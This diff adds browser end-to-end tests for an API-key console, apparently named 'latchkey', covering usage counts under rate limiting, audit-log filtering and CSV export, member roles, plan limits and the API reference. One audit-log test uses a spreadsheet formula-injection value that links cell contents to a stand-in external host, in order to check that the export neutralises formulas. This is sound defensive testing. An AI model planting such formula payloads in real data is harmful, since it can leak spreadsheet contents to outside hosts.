@@ -1,0 +1,202 @@
+import { readFile } from 'node:fs/promises';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { beforeAll, describe, expect, test } from '@jest/globals';
+import type { Page } from 'playwright-core';
+import { strings } from '../../console/src/strings.ts';
+import { button, dialog, openKey, rowOf } from './support/keys-page.ts';
+import { goTo, showsTitle } from './support/pages.ts';
+import { newPerson } from './support/people.ts';
+import { browserSuite } from './support/suite.ts';
+import { Workspace } from './support/workspace.ts';
+
+/** The pages beside keys: each says what really happened in the workspace. */
+const suite = browserSuite();
+const owner = newPerson('Willa Workspace');
+let workspace: Workspace;
+
+beforeAll(async () => {
+  workspace = await Workspace.create(suite.site, 'Everything else', 'Professional');
+  await workspace.addMember(owner, 'owner');
+});
+
+describe('usage', () => {
+  const { usage } = strings;
+  /** Professional admits 60 requests a minute. */
+  const sent = 70;
+  let admitted = 0;
+  let limited = 0;
+
+  beforeAll(async () => {
+    const { key } = await workspace.createKey({ name: 'Busy' });
+    for (let i = 0; i < sent; i++) {
+      const status = await workspace.statusOf(key);
+      if (status === 200) admitted += 1;
+      if (status === 429) limited += 1;
+    }
+    // Refusals are written once a second at most, together with a later request.
+    await sleep(1100);
+    if ((await workspace.statusOf(key)) === 200) admitted += 1;
+    else limited += 1;
+  });
+
+  test('a key’s page tells how many requests were admitted and limited, and what is left now', async () => {
+    expect(admitted).toBeGreaterThanOrEqual(60);
+    const { page } = await suite.signedIn(owner);
+    await openKey(page, 'Busy');
+    await page.getByText(usage.limitsNow.title).waitFor();
+    await button(page, usage.asTable).click();
+    const table = page.getByRole('table', { name: usage.chart });
+    const [inTable, limitedInTable] = await sums(table.getByRole('row'));
+    expect(inTable).toBe(admitted);
+    expect(limitedInTable).toBeGreaterThan(0);
+    expect(limitedInTable).toBeLessThanOrEqual(limited);
+    const { limits } = (await workspace.call('GET', `${await pathOfBusy()}/usage?from=${anHourAgo()}`)).body;
+    await page.getByText(usage.limitsNow.remaining(limits.hour.remaining, limits.hour.limit)).waitFor();
+  });
+
+  test('the workspace’s page adds all keys up, and names each', async () => {
+    const { page } = await suite.signedIn(owner);
+    await goTo(page, 'Usage');
+    const row = page.getByRole('grid', { name: usage.perKey.title }).getByRole('row').filter({ hasText: 'Busy' });
+    await row.waitFor();
+    const cells = await row.getByRole('gridcell').allTextContents();
+    expect(cells).toContain(String(admitted));
+  });
+
+  const anHourAgo = () => new Date(Date.now() - 3_600_000).toISOString();
+  const pathOfBusy = async () => `/api/v1/api-keys/${(await workspace.keys()).find(({ name }) => name === 'Busy')?.id}`;
+
+  /** Of the columns admitted and limited. */
+  async function sums(rows: ReturnType<Page['getByRole']>): Promise<[number, number]> {
+    const found: [number, number] = [0, 0];
+    for (const row of await rows.all()) {
+      const cells = (await row.getByRole('cell').allTextContents()).slice(-2).map(Number);
+      if (cells.length === 2 && cells.every(Number.isInteger)) {
+        found[0] += cells[0] ?? 0;
+        found[1] += cells[1] ?? 0;
+      }
+    }
+    return found;
+  }
+});
+
+describe('the audit log', () => {
+  const { audit } = strings;
+  /** What a spreadsheet would run. */
+  const formula = '=HYPERLINK("https://elsewhere.example?"&A1;"Open")';
+
+  beforeAll(async () => {
+    const { id } = await workspace.createKey({ name: formula });
+    await workspace.deleteKey(id);
+  });
+
+  test('tells who did what, and its filters are in the address', async () => {
+    const { page } = await suite.signedIn(owner, '/console/audit-log');
+    await rowOf(page, audit.actions['key.deleted']).or(rowOf(page, 'deleted')).first().waitFor();
+    await page.getByRole('button', { name: new RegExp(`^${audit.filters.action}`) }).click();
+    await page.getByRole('option', { name: audit.actions['key.deleted'], exact: true }).click();
+    await rowOf(page, 'created').first().waitFor({ state: 'hidden' });
+    await rowOf(page, 'deleted').first().waitFor();
+    expect(page.url()).toContain('key.deleted');
+    await page.reload();
+    await rowOf(page, 'deleted').first().waitFor();
+    expect(await rowOf(page, 'created').count()).toBe(0);
+    await button(page, audit.filters.clear).click();
+    await rowOf(page, 'created').first().waitFor();
+  });
+
+  test('is exported as CSV, in which nothing is a formula', async () => {
+    const { page } = await suite.signedIn(owner, '/console/audit-log');
+    await rowOf(page, 'deleted').first().waitFor();
+    const downloading = page.waitForEvent('download');
+    await button(page, audit.export.button).click();
+    const download = await downloading;
+    expect(download.suggestedFilename()).toMatch(/^latchkey-audit-log-.*\.csv$/);
+    const text = await readFile(await download.path(), 'utf8');
+    const [head = '', ...rows] = text.trimEnd().split('\r\n');
+    expect(head.split(',').map((cell) => cell.replaceAll(/["\uFEFF]/g, ''))).toEqual(
+      Object.values(audit.export.columns),
+    );
+    const { auditEvents } = (await workspace.call('GET', '/api/v1/audit-events?limit=100')).body;
+    expect(rows).toHaveLength(auditEvents.length);
+    for (const { id, action } of auditEvents) {
+      expect(rows.filter((row) => row.includes(id) && row.includes(action))).toHaveLength(1);
+    }
+    expect(text).toContain(`"'=HYPERLINK(`);
+    expect(text).not.toMatch(/(^|,)"?[=+@-]/m);
+  });
+});
+
+describe('members', () => {
+  const { members } = strings;
+
+  test('are added, change their role, and are removed: what they may do follows at once', async () => {
+    const guest = newPerson('Gina Guest');
+    const { page } = await suite.signedIn(owner);
+    await goTo(page, 'Members and roles');
+    await button(page, members.add).click();
+    await dialog(page).getByLabel(members.form.subject, { exact: true }).fill(guest.subject);
+    await dialog(page).getByRole('textbox', { name: members.form.name }).fill(guest.name);
+    await dialog(page).getByRole('radio', { name: members.roles.viewer }).check();
+    await button(dialog(page), members.form.submit).click();
+    await rowOf(page, guest.name).getByText(members.roles.viewer, { exact: true }).waitFor();
+
+    const { page: theirs, guard } = await suite.signedIn(guest);
+    await theirs.getByText(strings.keys.create.button).first().waitFor();
+    expect(await button(theirs, strings.keys.create.button).first().isEnabled()).toBe(false);
+
+    await chooseFor(page, guest.name, members.change);
+    await dialog(page).getByRole('radio', { name: members.roles.admin }).check();
+    await button(dialog(page), strings.save).click();
+    await rowOf(page, guest.name).getByText(members.roles.admin, { exact: true }).waitFor();
+    await theirs.reload();
+    await showsTitle(theirs, 'API keys');
+    expect(await button(theirs, strings.keys.create.button).first().isEnabled()).toBe(true);
+
+    await chooseFor(page, guest.name, members.remove);
+    await button(dialog(page), members.removal.submit).click();
+    await rowOf(page, guest.name).waitFor({ state: 'hidden' });
+    guard.announce({ path: /^\/api\/v1\//, status: 403 });
+    await theirs.reload();
+    await theirs.getByRole('heading', { name: strings.notMember.title }).waitFor();
+  });
+
+  async function chooseFor(page: Page, name: string, action: string): Promise<void> {
+    await button(page, members.actionsOf(name)).click();
+    await page.getByRole('menuitem', { name: action, exact: true }).click();
+  }
+});
+
+test('plan and limits tell what the plan allows, and how much of it is used', async () => {
+  const { plan } = strings;
+  const { page } = await suite.signedIn(owner);
+  await goTo(page, 'Plan and limits');
+  const used = (await workspace.keys()).length;
+  await page
+    .getByText(plan.keysUsed(String(used), '5'))
+    .first()
+    .waitFor();
+  await page.getByText(plan.perMinute('60')).first().waitFor();
+  await page.getByText(plan.perHour('1,000')).first().waitFor();
+});
+
+describe('the API reference', () => {
+  test('is loaded when it is opened, and shows every operation of the API', async () => {
+    const { page } = await suite.signedIn(owner);
+    const scripts = new Set<string>();
+    page.on('request', (request) => {
+      if (request.resourceType() === 'script') scripts.add(request.url());
+    });
+    const asked = page.waitForRequest(/\/openapi\.json$/);
+    await goTo(page, 'API reference');
+    await asked;
+    expect(scripts.size).toBeGreaterThan(0);
+    const document = (await workspace.call('GET', '/openapi.json')).body;
+    const summaries = Object.values<Record<string, { summary?: string }>>(document.paths).flatMap((path) =>
+      Object.values(path).flatMap(({ summary }) => summary ?? []),
+    );
+    expect(summaries.length).toBeGreaterThan(20);
+    const text = await page.getByRole('main').textContent();
+    expect(summaries.filter((summary) => !text?.includes(summary))).toEqual([]);
+  });
+});
